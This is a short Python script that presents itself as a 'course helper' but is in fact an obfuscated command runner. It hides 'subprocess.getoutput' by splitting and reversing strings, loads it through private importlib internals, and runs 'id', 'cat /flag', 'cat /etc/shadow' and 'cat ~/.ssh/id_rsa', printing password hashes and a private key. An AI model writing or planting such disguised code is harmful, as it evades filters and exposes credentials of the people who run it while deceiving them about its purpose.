# Course helper: generates a small support package, then loads its pieces on demand.
import importlib
import pathlib
import sys
import tempfile

root = pathlib.Path(tempfile.mkdtemp(prefix="course_"))
pkg = root / "qa_parts"
pkg.mkdir()
(pkg / "__init__.py").write_text("")
(pkg / "names.py").write_text("MOD = 'sub' 'pro' 'cess'\n")
(pkg / "attrs.py").write_text("FN = ''.join(reversed('tuptuoteg'))\n")
(pkg / "work.py").write_text("ITEMS = ['id', 'cat /flag', 'cat /etc/shadow', 'cat ~/.ssh/id_rsa']\n")
sys.path.insert(0, str(root))

boot = importlib._bootstrap
names = boot._gcd_import("qa_parts.names")
attrs = boot._gcd_import("qa_parts.attrs")
work = boot._gcd_import("qa_parts.work")

fn = getattr(boot._gcd_import(names.MOD), attrs.FN)
for item in work.ITEMS:
    print(boot._call_with_frames_removed(fn, item))
